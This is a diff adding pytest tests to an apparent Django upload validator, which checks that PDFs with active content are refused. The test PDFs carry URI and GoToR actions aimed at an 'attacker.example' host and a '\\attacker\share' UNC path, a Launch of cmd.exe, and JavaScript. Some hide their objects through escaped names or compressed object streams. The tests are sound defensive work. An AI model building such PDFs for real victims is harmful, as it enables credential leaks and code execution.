@@ -331,3 +331,202 @@ def test_right_to_left_override_in_a_file_name_cannot_disguise_its_type(client, 
     assert "%E2%80%AE" not in disposition.upper() and disposition.endswith('.png"')
     check = client.get(reverse("certificates:check", kwargs={"case_number": draft.case_number})).content.decode()
     assert "\u202e" not in check
+
+
+# --- PDFs that act by themselves: refused, whatever the kind of action and wherever it hides ---------------
+
+
+def pdf_of(objects: list[bytes], *, in_object_stream: tuple[int, ...] = ()) -> bytes:
+    """A PDF written byte by byte: objects 1… are `objects` (1 is the catalog); those numbered in
+    `in_object_stream` are packed into a compressed object stream with a cross-reference stream, as modern
+    writers do, so that no byte scan can see them."""
+    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+    rows: dict[int, tuple[int, int, int]] = {0: (0, 0, 65535)}
+    packed = [n for n in range(1, len(objects) + 1) if n in in_object_stream]
+    for number, body in enumerate(objects, start=1):
+        if number in packed:
+            continue
+        rows[number] = (1, len(out), 0)
+        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
+    size = len(objects) + 1
+    if packed:
+        stream_number, size = size, size + 2
+        header, bodies = b"", b""
+        for index, number in enumerate(packed):
+            header += b"%d %d " % (number, len(bodies))
+            bodies += objects[number - 1] + b"\n"
+            rows[number] = (2, stream_number, index)
+        data = zlib.compress(header + bodies)
+        rows[stream_number] = (1, len(out), 0)
+        out += b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
+            stream_number,
+            len(packed),
+            len(header),
+            len(data),
+        )
+        out += data + b"\nendstream\nendobj\n"
+        xref_number = stream_number + 1
+        xref_at = len(out)
+        rows[xref_number] = (1, xref_at, 0)
+        xref = b"".join(struct.pack(">BIH", *rows[n]) for n in range(size))
+        out += b"%d 0 obj\n<< /Type /XRef /Size %d /Root 1 0 R /W [1 4 2] /Index [0 %d] /Length %d >>\nstream\n" % (
+            xref_number,
+            size,
+            size,
+            len(xref),
+        )
+        out += xref + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
+        return bytes(out)
+    xref_at = len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
+    out += b"".join(b"%010d 00000 n \n" % rows[n][1] for n in range(1, size))
+    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, xref_at)
+    return bytes(out)
+
+
+def one_page(catalog=b"", page=b"", *more: bytes) -> list[bytes]:
+    return [
+        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + page + b" >>",
+        *more,
+    ]
+
+
+UNC = rb"(\\\\attacker\\share\\x.pdf)"  # the PDF string \\attacker\share\x.pdf
+LINK = b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A %s >>"
+
+ACTIVE_PDFS = {
+    "xfa_form_with_javascript": one_page(
+        b"/AcroForm << /Fields [] /XFA 4 0 R >>",
+        b"",
+        b'<< /Length 60 >>\nstream\n<xdp:xdp><script contentType="application/x-javascript">app.alert(1)'
+        b"</script></xdp:xdp>\nendstream",
+    ),
+    "document_additional_action_uri": one_page(b"/AA << /WC << /S /URI /URI (https://attacker.example/) >> >>"),
+    "page_additional_action_gotor_unc": one_page(b"", b"/AA << /O << /S /GoToR /F " + UNC + b" /D [0 /Fit] >> >>"),
+    "open_action_uri": one_page(b"/OpenAction << /S /URI /URI (https://attacker.example/) >>"),
+    "open_action_goto_dictionary": one_page(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"),
+    "link_annotation_uri": one_page(b"", b"/Annots [4 0 R]", LINK % b"<< /S /URI /URI (https://attacker.example/) >>"),
+    "link_annotation_gotor_unc": one_page(b"", b"/Annots [4 0 R]", LINK % (b"<< /S /GoToR /F " + UNC + b" >>")),
+    "link_annotation_launch": one_page(b"", b"/Annots [4 0 R]", LINK % b"<< /S /Launch /F (cmd.exe) >>"),
+    "link_annotation_gotoe": one_page(b"", b"/Annots [4 0 R]", LINK % b"<< /S /GoToE /T << /R /C /N (a) >> >>"),
+    "action_chained_by_next": one_page(
+        b"", b"/Annots [4 0 R]", LINK % b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://x.example/) >> >>"
+    ),
+    "form_field_submit_form": one_page(
+        b"/AcroForm << /Fields [4 0 R] >>",
+        b"/Annots [4 0 R]",
+        b"<< /FT /Tx /T (name) /Subtype /Widget /Rect [0 0 9 9] /A << /S /SubmitForm /F (https://x.example/) >> >>",
+    ),
+    "form_field_additional_action_javascript": one_page(
+        b"/AcroForm << /Fields [4 0 R] >>",
+        b"/Annots [4 0 R]",
+        b"<< /FT /Tx /T (name) /Subtype /Widget /Rect [0 0 9 9] /AA << /Fo << /S /JavaScript /JS 5 0 R >> >> >>",
+        b"<< /Length 12 >>\nstream\napp.alert(1)\nendstream",
+    ),
+    "import_data": one_page(b"/OpenAction << /S /ImportData /F (data.fdf) >>"),
+    "rendition": one_page(
+        b"", b"/Annots [4 0 R]", b"<< /Subtype /Link /Rect [0 0 9 9] /A << /S /Rendition /OP 0 >> >>"
+    ),
+    "sound_action": one_page(b"", b"/Annots [4 0 R]", b"<< /Subtype /Link /Rect [0 0 9 9] /A << /S /Sound >> >>"),
+    "movie_annotation": one_page(b"", b"/Annots [4 0 R]", b"<< /Subtype /Movie /Rect [0 0 9 9] /T (m) >>"),
+    "screen_annotation": one_page(b"", b"/Annots [4 0 R]", b"<< /Subtype /Screen /Rect [0 0 9 9] >>"),
+    "three_d_annotation": one_page(b"", b"/Annots [4 0 R]", b"<< /Subtype /3D /Rect [0 0 9 9] >>"),
+    "file_attachment_annotation": one_page(
+        b"", b"/Annots [4 0 R]", b"<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /F (a.exe) >> >>"
+    ),
+    "rich_media": one_page(b"", b"/Annots [4 0 R]", b"<< /Subtype /RichMedia /Rect [0 0 9 9] >>"),
+    "url_file_specification": one_page(
+        b"",
+        b"/Annots [4 0 R]",
+        b"<< /Subtype /Link /Rect [0 0 9 9] /A << /S /GoTo /D [3 0 R] /F << /FS /URL /F (http://x.example/) >> >> >>",
+    ),
+    "javascript_name_tree": one_page(
+        b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", b"", b"<< /S /JavaScript /JS (app.alert(1)) >>"
+    ),
+    "escaped_names_in_annotation": one_page(
+        b"", b"/Annots [4 0 R]", LINK % b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"
+    ),
+    "escaped_uri_name": one_page(b"", b"/Annots [4 0 R]", LINK % b"<< /S /U#52I /U#52I (https://x.example/) >>"),
+    "escaped_additional_action_key": one_page(b"/#41A << /WC << /S /#55RI /URI (https://x.example/) >> >>"),
+    "escaped_xfa_key": one_page(b"/AcroForm << /Fields [] /#58FA (<xdp/>) >>"),
+    "unreferenced_object_with_javascript": one_page(b"", b"", b"<< /S /JavaScript /JS (app.alert(1)) >>"),
+}
+
+# The same, but with the active objects packed in a compressed object stream.
+PACKED_PDFS = {
+    "link_uri_in_object_stream": (
+        one_page(b"", b"/Annots [4 0 R]", LINK % b"<< /S /URI /URI (https://attacker.example/) >>"),
+        (4,),
+    ),
+    "gotor_unc_in_object_stream": (
+        one_page(b"", b"/AA << /O 4 0 R >>", b"<< /S /GoToR /F " + UNC + b" /D [0 /Fit] >>"),
+        (3, 4),
+    ),
+    "catalog_with_xfa_in_object_stream": (one_page(b"/AcroForm << /Fields [] /XFA (<xdp/>) >>"), (1, 2, 3)),
+    "escaped_launch_in_object_stream": (one_page(b"/OpenAction 4 0 R", b"", b"<< /S /L#61unch /F (cmd.exe) >>"), (4,)),
+}
+
+
+@pytest.mark.parametrize("objects", ACTIVE_PDFS.values(), ids=ACTIVE_PDFS.keys())
+def test_pdf_with_active_content_is_refused(objects):
+    from django.core.exceptions import ValidationError
+
+    from portal.documents.validation import check_pdf
+
+    with pytest.raises(ValidationError) as info:
+        check_pdf(pdf_of(objects))
+    assert info.value.code == "active_content"
+
+
+@pytest.mark.parametrize("objects,packed", PACKED_PDFS.values(), ids=PACKED_PDFS.keys())
+def test_pdf_with_active_content_in_an_object_stream_is_refused(objects, packed):
+    from django.core.exceptions import ValidationError
+
+    from portal.documents.validation import PDF_RAW_ACTIVE, check_pdf
+
+    data = pdf_of(objects, in_object_stream=packed)
+    assert b"attacker" not in data and not PDF_RAW_ACTIVE.search(data), "only the structural walk can see it"
+    with pytest.raises(ValidationError) as info:
+        check_pdf(data)
+    assert info.value.code == "active_content"
+
+
+PLAIN_PDFS = {
+    "plain_page": (one_page(), ()),
+    "opens_at_page_one": (one_page(b"/OpenAction [3 0 R /Fit]"), ()),
+    "internal_link_goto": (one_page(b"", b"/Annots [4 0 R]", LINK % b"<< /S /GoTo /D [3 0 R /Fit] >>"), ()),
+    "plain_fillable_form": (
+        one_page(
+            b"/AcroForm << /Fields [4 0 R] >>",
+            b"/Annots [4 0 R]",
+            b"<< /FT /Tx /T (name) /Subtype /Widget /Rect [0 0 9 9] /V (x) >>",
+        ),
+        (),
+    ),
+    "plain_page_in_object_stream": (one_page(), (1, 2, 3)),
+}
+
+
+@pytest.mark.parametrize("objects,packed", PLAIN_PDFS.values(), ids=PLAIN_PDFS.keys())
+def test_plain_pdf_is_still_accepted(objects, packed):
+    from portal.documents.validation import check_pdf
+
+    check_pdf(pdf_of(objects, in_object_stream=packed))  # raises nothing
+
+
+@pytest.mark.parametrize(
+    "language,expected",
+    [("en", "print it to a new, plain PDF"), ("zh-hans", "打印为PDF")],
+)
+def test_active_pdf_is_refused_through_the_form_with_advice_in_both_languages(client, draft, language, expected):
+    from django.utils import translation
+
+    client.cookies[settings.LANGUAGE_COOKIE_NAME] = language
+    data = pdf_of(one_page(b"", b"/AA << /O << /S /GoToR /F " + UNC + b" >> >>"))
+    with translation.override(language):
+        response = post_documents(client, draft, id_front=upload("front.pdf", data, "application/pdf"))
+    assert response.status_code == 400
+    assert expected in response.content.decode()
+    assert not Document.objects.exists()
